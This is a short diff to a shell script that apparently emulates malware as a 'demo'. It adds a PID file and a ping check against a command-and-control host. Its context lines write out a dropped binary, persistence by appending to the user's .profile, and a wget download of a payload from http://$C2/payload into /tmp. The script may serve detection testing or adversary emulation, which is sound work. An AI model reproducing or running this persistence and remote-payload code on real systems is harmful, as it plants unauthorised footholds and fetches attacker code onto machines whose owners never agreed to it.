@@ -8,6 +8,9 @@ DROPPED=/usr/local/bin/demo-updater
 
 echo "demo: started as $(id -un) on $(uname -n)"
 
+# one instance is enough
+echo $$ > /run/demo-updater.pid
+
 # a child that works in the background
 (
     sleep 0.2
@@ -34,6 +37,7 @@ echo "$DROPPED # demo" >> "$HOME/.profile"
 echo "demo: persisted"
 
 # command and control
+ping -c 1 -W 1 "$C2" > /dev/null || echo "demo: $C2 does not answer a ping"
 if wget -q -T 10 -t 1 -O /tmp/demo-payload "http://$C2/payload"; then
     echo "demo: fetched $(wc -c < /tmp/demo-payload) bytes from $C2"
 else
